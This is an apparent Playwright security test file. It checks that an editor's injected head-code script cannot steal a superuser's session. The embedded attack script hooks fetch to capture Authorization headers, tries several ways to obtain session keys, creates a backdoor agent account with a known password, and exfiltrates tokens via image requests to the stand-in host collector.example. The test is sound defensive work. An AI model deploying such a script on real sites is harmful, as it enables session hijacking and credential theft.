/**
 * The global head code never acts with a signed-in person's rights (decision 032). An editor puts an
 * attacker's script into the head code: it wraps `fetch` before the app loads to catch the app's own
 * Authorization header, keeps its page open while the superuser signs in in another tab (swallowing the
 * event that would reload it), then tries every way to a session it can reach from a page: the session
 * cookie's renewal, the page key from a fetched page, from a frame and from a window it opens. With
 * whatever it got it makes an OCTO key and an agent account with a known password, and sends what it
 * learns out through an <img>, which the CSP allows (img-src https:). Each step fails, and the server
 * shows nothing made.
 */
import { expect, test } from '@playwright/test';
import { apiTokenFor, demoAccounts, demoSuperuserCode, withGlobalHeadCode } from './fixtures';

const ATTACK = `<script>
(function () {
  var log = (window.__attack = { caught: [], steps: {} });
  var realFetch = window.fetch;
  window.fetch = function (input, init) {
    try {
      var h = new Headers((init && init.headers) || (input && input.headers) || {});
      ['authorization', 'x-page-key'].forEach(function (n) { if (h.get(n)) log.caught.push(h.get(n)); });
    } catch (e) {}
    return realFetch.apply(this, arguments);
  };
  // Keep this page open as it is when the visitor signs in elsewhere.
  window.addEventListener('storage', function (e) { e.stopImmediatePropagation(); }, true);
  function leak(what) { new Image().src = 'https://collector.example/leak?d=' + encodeURIComponent(what); }
  function keyIn(html) { var m = /rbt-page-key" content="([^"]+)"/.exec(html || ''); return m ? m[1] : null; }
  var wait = function (ms) { return new Promise(function (r) { setTimeout(r, ms); }); };
  window.__attackNow = async function () {
    var s = log.steps;
    var refresh = function (key) {
      var headers = { 'content-type': 'application/json' };
      if (key) headers['x-page-key'] = key;
      return realFetch('/api/session/refresh/', { method: 'POST', headers: headers, body: '{}' });
    };
    var r = await refresh();
    s.refresh = r.status;
    var token = ((await r.text()).match(/"access":"([^"]+)"/) || [])[1] || null;
    var key = keyIn(await (await realFetch('/profile')).text());
    s.fetchedKey = Boolean(key);
    var frame = document.createElement('iframe');
    frame.src = '/profile';
    document.body.appendChild(frame);
    await new Promise(function (done) { frame.onload = done; });
    try { s.frameKey = Boolean(keyIn(frame.contentDocument.documentElement.outerHTML)); } catch (e) { s.frameKey = 'blocked'; }
    var w = window.open('/profile');
    for (var i = 0; i < 30 && !s.openedKey; i++) {
      await wait(100);
      try { s.openedKey = Boolean(w && w.document && keyIn(w.document.documentElement.outerHTML)); } catch (e) { s.openedKey = 'blocked'; }
    }
    try { s.openedReach = w && w.document ? 'document:' + w.location.pathname : 'none'; } catch (e) { s.openedReach = 'blocked'; }
    try { w && w.close(); } catch (e) {}
    key = key || log.caught.filter(function (c) { return c.indexOf('Bearer') !== 0; })[0] || null;
    if (!token && key) { var again = await refresh(key); s.refreshWithKey = again.status; token = ((await again.text()).match(/"access":"([^"]+)"/) || [])[1] || null; }
    var bearer = log.caught.filter(function (c) { return c.indexOf('Bearer ') === 0; })[0];
    token = token || (bearer ? bearer.slice(7) : null);
    s.gotToken = Boolean(token);
    var auth = token ? { authorization: 'Bearer ' + token } : {};
    var post = function (path, body) {
      return realFetch(path, { method: 'POST', headers: Object.assign({ 'content-type': 'application/json' }, auth), body: JSON.stringify(body) });
    };
    var made = await post('/api/admin/resellers/', { name: 'Head code key' });
    s.resellerKey = made.status;
    if (made.ok) leak(await made.text());
    var agent = await post('/api/admin/agent-accounts/', { agent_name: 'Head Code Agent', email: 'head-code-agent@example.com', password: 'known-password-123' });
    s.agentAccount = agent.status;
    if (token) leak(token);
    s.done = true;
    return s;
  };
})();
</script>`;

test('an editor’s head code gets no session from a superuser who signs in beside it', async ({
  page,
  browser,
  baseURL,
}) => {
  test.setTimeout(90_000);
  await withGlobalHeadCode(page.request, ATTACK, async () => {
    const context = await browser.newContext({ baseURL });
    const leaks: string[] = [];
    await context.route('https://collector.example/**', (route) => {
      leaks.push(route.request().url());
      return route.fulfill({ status: 204 });
    });
    try {
      // Tab A: the home page, signed out, with the head code running.
      const tabA = await context.newPage();
      await tabA.goto('/');
      await expect(tabA.getByRole('heading', { level: 1 })).toBeVisible();
      expect(await tabA.evaluate(() => typeof (window as any).__attackNow)).toBe('function');

      // Tab B: the superuser signs in on the sign-in page and opens the home page.
      const tabB = await context.newPage();
      const { superuser } = demoAccounts();
      await tabB.goto('/login');
      await tabB.getByRole('main').getByLabel('Username').fill(superuser.email);
      await tabB.getByRole('main').getByLabel('Password', { exact: true }).fill(superuser.password);
      await tabB.getByRole('main').getByRole('button', { name: 'Sign In' }).click();
      // Its second step: the authenticator's code (decision 051).
      await tabB
        .getByRole('main')
        .getByLabel('Authentication code')
        .fill(await demoSuperuserCode());
      await tabB.getByRole('main').getByRole('button', { name: 'Verify' }).click();
      await expect(tabB).toHaveURL(/\/$/);
      await tabB.reload();
      await expect(tabB.getByRole('button', { name: 'Logout' }).first()).toBeAttached();
      // The signed-in browser's pages come without the head code: nothing of it runs beside the session.
      expect(await tabB.evaluate(() => typeof (window as any).__attack)).toBe('undefined');
      // ...and the session works there (the analytics page is a superuser's).
      await tabB.goto('/analytics');
      await expect(tabB).toHaveURL(/\/analytics\/?$/);
      await expect(tabB.getByRole('heading', { level: 1 })).toBeVisible();

      // Tab A stayed open (it swallowed the reload) and now tries everything.
      const steps = await tabA.evaluate(() => (window as any).__attackNow());
      expect(steps).toMatchObject({
        refresh: 403,
        fetchedKey: false,
        frameKey: false,
        gotToken: false,
        resellerKey: 401,
        agentAccount: 401,
        done: true,
      });
      // The window it opened is not within its reach (Cross-Origin-Opener-Policy).
      expect(steps.openedKey).not.toBe(true);
      expect(steps.openedReach).toBe('blocked');
      expect(steps.refreshWithKey).toBeUndefined();
      expect(leaks.join(' ')).not.toMatch(/eyJ|Bearer|key/);

      // Nothing was made.
      const superToken = await apiTokenFor(page.request, 'superuser');
      const keys = await (
        await page.request.get('/api/admin/resellers/', {
          headers: { authorization: `Bearer ${superToken}` },
        })
      ).json();
      expect(keys.resellers.map((r: { name: string }) => r.name)).not.toContain('Head code key');
      const agents = await (
        await page.request.get('/api/admin/agent-accounts/', {
          headers: { authorization: `Bearer ${superToken}` },
        })
      ).json();
      expect(JSON.stringify(agents)).not.toContain('head-code-agent@example.com');
    } finally {
      await context.close();
    }
  });
});

test('a page with head code goes to the sign-in page by loading it afresh, without the head code', async ({
  page,
}) => {
  await withGlobalHeadCode(page.request, '<script>window.__tagged = true;</script>', async () => {
    await page.goto('/');
    expect(await page.evaluate(() => (window as any).__tagged)).toBe(true);
    // Login in the navigation bar: the app's own link, which would stay in this page.
    await page.getByRole('link', { name: 'Login' }).first().click();
    await expect(page).toHaveURL(/\/login\/?$/);
    // The page loaded afresh has no head code. Asked until the new page answers: the address can change
    // before the old page is gone, and a question asked while it goes is lost with it.
    await expect
      .poll(() => page.evaluate(() => (window as any).__tagged).catch(() => 'reloading'), { timeout: 20_000 })
      .toBeUndefined();
    await expect(page.getByRole('main').getByLabel('Username')).toBeVisible();
  });
});
